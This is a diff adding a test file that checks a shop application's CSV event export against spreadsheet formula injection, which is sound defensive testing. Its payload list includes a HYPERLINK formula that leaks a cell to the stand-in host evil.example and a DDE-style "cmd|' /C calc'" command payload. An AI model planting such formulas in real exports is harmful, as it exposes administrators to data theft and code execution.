@@ -1,0 +1,62 @@
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { signUp } from '../signed-in-person.ts'
+import { openScenario, type Scenario } from './scenario.ts'
+
+/** What people write never becomes a formula in the spreadsheet of the administrator who exports it. */
+let scenario: Scenario
+let lines: string[][]
+
+const formulas = [
+  '=HYPERLINK("https://evil.example?"&A1,"Invoice")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1+1)*cmd',
+  '\t=1+1',
+  '\r=1+1',
+  '",=1+1,"',
+]
+
+beforeAll(async () => {
+  scenario = await openScenario()
+  const { program, admin } = scenario
+  const eve = await signUp(program.url, { name: formulas[0] as string, email: '+1-2@evil.example' })
+  for (const formula of formulas) {
+    const product = { name: `${formula}.`, details: formula, price: 1, available: 100, minimum_order: 1, image: '/images/a.webp' }
+    const { insertedId } = (await program.call('POST', '/product', { token: admin.token, body: product })).body
+    const order = { productID: insertedId, orderUnit: 1, company: formula, street: formula, city: formula, country: formula, phone: '+1' }
+    expect((await program.call('POST', '/order', { token: eve.token, body: order })).status).toBe(200)
+    const review = { ratings: 100, comment: formula }
+    expect((await program.call('POST', '/review', { token: eve.token, body: review })).status).toBe(200)
+  }
+  const body = { email: '-1@evil.example', subject: formulas[0], message: formulas[0] }
+  expect((await program.call('POST', '/contact', { token: eve.token, body })).status).toBe(200)
+  const { text } = await program.call('GET', '/event.csv', { token: admin.token })
+  lines = readCsv(text)
+})
+afterAll(() => scenario?.close())
+
+/** A file as RFC 4180 has it read. */
+function readCsv(text: string): string[][] {
+  const cells = text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)
+  const found: string[][] = [[]]
+  for (const [, quoted, plain, end] of cells) {
+    found.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
+    if (end === '\r\n') found.push([])
+  }
+  return found.slice(0, -1)
+}
+
+test('every line has its nine cells, whatever stands in them', () => {
+  expect(lines.length).toBeGreaterThan(formulas.length * 3)
+  for (const line of lines) expect(line).toHaveLength(9)
+})
+
+test('no cell begins as a formula', () => {
+  for (const cell of lines.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+  expect(lines.map(([, , actor]) => actor)).toContain(`'+1-2@evil.example`)
+})
+
+test('and everything that was written is there as it was', () => {
+  const reviews = lines.filter(([, , , , verb]) => verb === 'review.added').map((line) => JSON.parse(line[8] ?? '').comment)
+  expect(reviews.toReversed()).toEqual(formulas.map((formula) => formula.trim()))
+})
